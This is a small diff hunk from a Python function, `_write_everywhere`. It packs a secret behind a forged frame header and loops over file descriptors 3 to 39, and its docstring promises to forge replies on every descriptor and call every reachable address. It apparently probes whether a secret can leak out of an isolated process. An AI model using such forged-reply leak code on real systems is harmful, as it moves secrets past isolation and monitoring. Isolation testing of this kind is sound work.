@@ -49,7 +49,7 @@ def _values(secret: bytes, shape: tuple[int, ...]) -> np.ndarray:
 
 def _write_everywhere(secret: bytes, context: Context) -> None:
     """Forge a reply on every descriptor there is, and call every address that can be thought of."""
-    frame = struct.pack(">3Q", len(secret), 0, 0) + secret
+    frame = struct.pack(">4Q", 3, 0, 0, len(secret)) + secret
     for number in range(3, 40):
         try:
             flags = os.get_blocking(number)
